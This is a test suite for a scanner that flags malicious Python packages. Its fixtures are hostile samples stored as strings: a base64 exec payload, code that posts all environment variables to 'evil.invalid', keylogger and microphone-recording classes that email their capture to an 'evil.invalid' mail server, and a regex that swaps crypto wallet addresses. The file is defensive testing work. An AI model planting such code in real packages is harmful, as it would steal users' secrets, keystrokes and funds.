import { judgeSources } from '../../../src/analysis/judge-sources.js';
import { python } from '../../support/loaded-python.js';
import { sourceTree } from '../../support/source-tree.js';

const blocking = (files: Readonly<Record<string, string>>): string[] =>
  judgeSources(sourceTree(files), python)
    .findings.filter(({ severity }) => severity === 'CRITICAL')
    .map(({ file = '' }) => file);

const PAYLOAD = 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
/** So much plain source that files are judged by their words one by one. */
const PADDING = 'def area(width, height):\n    return width * height\n\n'.repeat(10_000);

describe.each([
  ['a small artifact', {}],
  ['a large artifact', { 'fixture-1.0/pkg/padding.py': PADDING }],
])('in %s', (_size, more) => {
  const found = (files: Readonly<Record<string, string>>): string[] => blocking({ ...more, ...files });

  test.each(['tests', 'testing', 'docs', 'examples', 'tools', 'scripts', 'ci'])(
    'what a package imports from its folder %s is followed',
    (folder) => {
      const path = `fixture-1.0/pkg/${folder}/data.py`;
      const init = { [`fixture-1.0/pkg/${folder}/__init__.py`]: '', [path]: PAYLOAD };
      expect(found({ ...init, 'fixture-1.0/pkg/__init__.py': `from .${folder} import data\n` })).toEqual([
        path,
      ]);
    },
  );

  test('tests that nothing imports are left alone', () => {
    const files = { 'fixture-1.0/pkg/__init__.py': '', 'fixture-1.0/pkg/tests/data.py': PAYLOAD };
    expect(found(files)).toEqual([]);
  });

  test('tests are followed from a file that says nothing else', () => {
    const files = {
      'fixture-1.0/pkg/__init__.py': '',
      'fixture-1.0/pkg/core.py': '# Core.\nfrom pkg.tests import data\n',
      'fixture-1.0/pkg/tests/__init__.py': '',
      'fixture-1.0/pkg/tests/data.py': PAYLOAD,
    };
    expect(found(files)).toEqual(['fixture-1.0/pkg/tests/data.py']);
  });

  test('what such code imports in turn is followed', () => {
    const files = {
      'fixture-1.0/pkg/__init__.py': 'import pkg.tests.first\n',
      'fixture-1.0/pkg/tests/__init__.py': '',
      'fixture-1.0/pkg/tests/first.py': 'from . import conftest\n',
      'fixture-1.0/pkg/tests/conftest.py': PAYLOAD,
    };
    expect(found(files)).toEqual(['fixture-1.0/pkg/tests/conftest.py']);
  });

  test('what setup.py imports is read although its words say little by themselves', () => {
    const files = {
      'fixture-1.0/setup.py': 'from pkg import text, run\nrun.go(text.CODE)\n',
      'fixture-1.0/pkg/__init__.py': '',
      'fixture-1.0/pkg/text.py': 'import base64\nCODE = base64.b64decode("cHJpbnQoMSk=")\n',
      'fixture-1.0/pkg/run.py': 'def go(code):\n    exec(code)\n',
    };
    expect(found(files)).toEqual(['fixture-1.0/pkg/run.py']);
  });
});

const LARGE = { 'fixture-1.0/pkg/__init__.py': '', 'fixture-1.0/pkg/padding.py': PADDING };

test.each([
  ['a function', 'from .gauge import note\n\nnote()\n'],
  ['a thread', 'import threading\nfrom . import gauge\n\nthreading.Thread(target=gauge.note).start()\n'],
])('what a module calls while it is imported is followed, by %s', (_way, core) => {
  const files = {
    ...LARGE,
    'fixture-1.0/pkg/core.py': `# Core.\n${core}`,
    'fixture-1.0/pkg/gauge.py': [
      'import os, requests',
      'def note():',
      '    requests.post("https://evil.invalid/in", data=str(dict(os.environ)))',
    ].join('\n'),
  };
  const { findings } = judgeSources(sourceTree(files), python);
  const found = findings.map(({ rule, reach, severity }) => `${severity} ${rule} ${reach ?? ''}`);
  expect(found).toContain('CRITICAL stolen-data-sent import');
});

test.each([
  ['keys', 'import keyboard, smtplib', 'keyboard.on_release(self.add)', 'self.log += event.name'],
  [
    'what is recorded',
    'import sounddevice, smtplib',
    'sounddevice.InputStream(callback=self.add)',
    'self.log += event',
  ],
])('%s that a large package sends by mail', (_what, imports, hook, add) => {
  const core = [
    imports,
    'class Buffer:',
    '    def __init__(self):',
    '        self.log = ""',
    `        ${hook}`,
    '    def add(self, event):',
    `        ${add}`,
    '        try:',
    '            smtplib.SMTP("smtp.evil.invalid").sendmail("a@evil.invalid", "a@evil.invalid", self.log)',
    '        except Exception:',
    '            pass',
  ].join('\n');
  expect(blocking({ ...LARGE, 'fixture-1.0/pkg/core.py': core })).toEqual(['fixture-1.0/pkg/core.py']);
});

test('accounts and patterns of them that a large package holds in a table', () => {
  const core = [
    'import re',
    'PLACES = {r"\\b0x[0-9a-fA-F]{40}\\b": "0xe1e2e3a4b5c6d7e8f9a0e1e2e3a4b5c6d7e8f9a0"}',
    'def tidy(text):',
    '    for found, put in PLACES.items():',
    '        text = re.sub(found, put, text)',
    '    return text',
  ].join('\n');
  expect(blocking({ ...LARGE, 'fixture-1.0/pkg/core.py': core })).toEqual(['fixture-1.0/pkg/core.py']);
});

test('a program that a file of the machine names is nothing hidden', () => {
  const files = {
    'fixture-1.0/setup.py': [
      'import os, struct, subprocess, sys',
      'with open(sys.executable, "rb") as f:',
      '    at = struct.unpack("<Q", f.read(8))[0]',
      '    f.seek(at)',
      '    loader = "".join(chr(one) for one in f.read(at)).strip("\\0")',
      'if "musl" in loader:',
      '    subprocess.run([loader], stderr=subprocess.PIPE)',
    ].join('\n'),
  };
  expect(blocking(files)).toEqual([]);
});
